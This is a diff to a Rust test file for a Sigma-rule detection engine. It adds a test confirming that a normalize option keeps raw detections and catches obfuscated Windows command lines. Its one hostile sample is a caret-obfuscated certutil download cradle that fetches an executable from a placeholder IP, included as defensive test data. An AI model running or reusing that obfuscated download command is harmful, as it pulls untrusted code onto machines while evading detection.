@@ -33,6 +33,10 @@ struct Loaded {
 /// rule survives `convert`; returns the rules and, per folder, the loaded and
 /// rejected counts (the rejection reasons are printed).
 fn load(folders: &[&str]) -> (Loaded, Vec<(usize, usize)>) {
+    load_with(folders, &sigma::Options::default())
+}
+
+fn load_with(folders: &[&str], options: &sigma::Options) -> (Loaded, Vec<(usize, usize)>) {
     let mut builder = RulesBuilder::new();
     let mut titles = BTreeMap::new();
     let mut counts = Vec::new();
@@ -43,7 +47,7 @@ fn load(folders: &[&str]) -> (Loaded, Vec<(usize, usize)>) {
         let mut reasons: BTreeMap<String, usize> = BTreeMap::new();
         for f in &files {
             let text = std::fs::read_to_string(f).unwrap();
-            let l = sigma::load(&f.display().to_string(), &text);
+            let l = sigma::load_with(&f.display().to_string(), &text, options);
             rejected += l.rejected.len();
             for r in &l.rejected {
                 *reasons.entry(r.reason.chars().take(60).collect()).or_default() += 1;
@@ -183,4 +187,44 @@ fn windows_rules_load_and_every_regression_case_fires() {
     eprintln!("regression (nested evtx JSON): {} of {cases} cases fire", cases - failed.len());
     assert!(cases >= 190, "only {cases} nested regression cases had a loaded rule");
     assert!(failed.is_empty(), "{} of {cases} nested cases missed", failed.len());
+}
+
+/// `--normalize`: every detection Sigma's raw semantics give is still there
+/// (filters stay raw), obfuscated command lines are found too, and what it
+/// adds on the regression events is printed.
+#[test]
+fn normalize_keeps_every_raw_detection_and_finds_obfuscated_lines() {
+    if !corpus_present() {
+        return;
+    }
+    let folders = ["rules/windows/process_creation"];
+    let (raw, _) = load(&folders);
+    let options = sigma::Options { normalize: true, ..Default::default() };
+    let (normal, counts) = load_with(&folders, &options);
+    assert_eq!(counts[0].1, load(&folders).1[0].1, "normalize must not change what loads");
+    let manifest = std::fs::read_to_string(Path::new(CORPUS).join("sigma-regression/manifest.jsonl")).unwrap();
+    let (mut events, mut before, mut after) = (0, 0, 0);
+    let mut s_raw = Scanner::new(raw.rules.clone());
+    let mut s_normal = Scanner::new(normal.rules.clone());
+    for line in manifest.lines() {
+        let m: serde_json::Value = serde_json::from_str(line).unwrap();
+        let path = Path::new(CORPUS).join("sigma-regression").join(m["events"].as_str().unwrap());
+        for ev in case_events(Shape::Flat, &path) {
+            events += 1;
+            let a: Vec<String> = s_raw.scan_json(ev.as_bytes()).unwrap().into_iter().map(|d| d.rule).collect();
+            let b: Vec<String> = s_normal.scan_json(ev.as_bytes()).unwrap().into_iter().map(|d| d.rule).collect();
+            for r in &a {
+                assert!(b.contains(r), "{r} fires raw but not normalized on {ev}");
+            }
+            before += a.len();
+            after += b.len();
+        }
+    }
+    eprintln!("normalize: {events} regression events, {before} detections raw, {after} normalized");
+    // An obfuscated download cradle: carets, a quoted option and an en dash.
+    let obfuscated = r#"{"EventID":1,"Image":"C:\\Windows\\System32\\certutil.exe","OriginalFileName":"CertUtil.exe","CommandLine":"c^ertutil \u2013url^cache -f http://203.0.113.9/a.exe a.exe","ParentImage":"C:\\Windows\\System32\\cmd.exe"}"#;
+    let fired = |s: &mut Scanner| s.scan_json(obfuscated.as_bytes()).unwrap().len();
+    let (a, b) = (fired(&mut s_raw), fired(&mut s_normal));
+    eprintln!("normalize: obfuscated certutil cradle fires {a} rules raw, {b} normalized");
+    assert!(b > a, "normalize finds nothing more on an obfuscated line ({a} raw, {b} normalized)");
 }
